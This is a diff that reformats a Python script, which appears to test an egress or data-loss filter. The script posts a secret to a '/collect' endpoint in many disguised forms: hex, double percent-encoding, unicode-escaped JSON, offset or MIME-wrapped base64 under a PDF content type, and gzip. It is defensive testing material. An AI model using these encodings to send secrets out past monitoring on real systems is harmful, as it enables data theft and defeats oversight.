@@ -43,18 +43,36 @@ ATTEMPTS = {
     "query, hex": dict(method="GET", path=f"/collect?h={raw.hex()}"),
     "path segment": dict(method="GET", path=f"/collect/{secret}/x"),
     "json": dict(method="POST", path="/collect", json={"note": "found this", "data": secret}),
-    "json, unicode-escaped": dict(method="POST", path="/collect", content=('{"data": "' + unicode_escaped(secret) + '"}').encode(),
-                                  headers={"Content-Type": "application/json"}),
+    "json, unicode-escaped": dict(
+        method="POST",
+        path="/collect",
+        content=('{"data": "' + unicode_escaped(secret) + '"}').encode(),
+        headers={"Content-Type": "application/json"},
+    ),
     "form": dict(method="POST", path="/collect", data={"data": secret, "x": "1"}),
-    "form, percent-encoded twice": dict(method="POST", path="/collect", content=b"d=" + quote(quote(secret, safe=""), safe="").encode(),
-                                        headers={"Content-Type": "application/x-www-form-urlencoded"}),
+    "form, percent-encoded twice": dict(
+        method="POST",
+        path="/collect",
+        content=b"d=" + quote(quote(secret, safe=""), safe="").encode(),
+        headers={"Content-Type": "application/x-www-form-urlencoded"},
+    ),
     "multipart file": dict(method="POST", path="/collect", files={"file": ("notes.txt", multipart_file, "text/plain")}),
     "base64 body": dict(method="POST", path="/collect", content=base64.b64encode(raw)),
-    "url-safe base64 in json, offset 1": dict(method="POST", path="/collect", json={"blob": base64.urlsafe_b64encode(b"x" + raw).decode()}),
-    "base64 with line breaks (MIME)": dict(method="POST", path="/collect", content=wrapped.encode(),
-                                           headers={"Content-Type": "application/pdf", "Content-Transfer-Encoding": "base64"}),
-    "gzip-compressed json": dict(method="POST", path="/collect", content=gzip.compress(json.dumps({"k": secret}).encode()),
-                                 headers={"Content-Type": "application/json", "Content-Encoding": "gzip"}),
+    "url-safe base64 in json, offset 1": dict(
+        method="POST", path="/collect", json={"blob": base64.urlsafe_b64encode(b"x" + raw).decode()}
+    ),
+    "base64 with line breaks (MIME)": dict(
+        method="POST",
+        path="/collect",
+        content=wrapped.encode(),
+        headers={"Content-Type": "application/pdf", "Content-Transfer-Encoding": "base64"},
+    ),
+    "gzip-compressed json": dict(
+        method="POST",
+        path="/collect",
+        content=gzip.compress(json.dumps({"k": secret}).encode()),
+        headers={"Content-Type": "application/json", "Content-Encoding": "gzip"},
+    ),
 }
 
 results = {}
@@ -64,8 +82,7 @@ with httpx.Client(timeout=30) as client:
         method, path = attempt.pop("method"), attempt.pop("path")
         try:
             response = client.request(method, base + path, **attempt)
-            results[name] = {"status": response.status_code, "body": response.text,
-                             "headers": dict(response.headers)}
+            results[name] = {"status": response.status_code, "body": response.text, "headers": dict(response.headers)}
         except httpx.HTTPError as exc:
             results[name] = {"status": None, "body": f"{type(exc).__name__}: {exc}", "headers": {}}
 
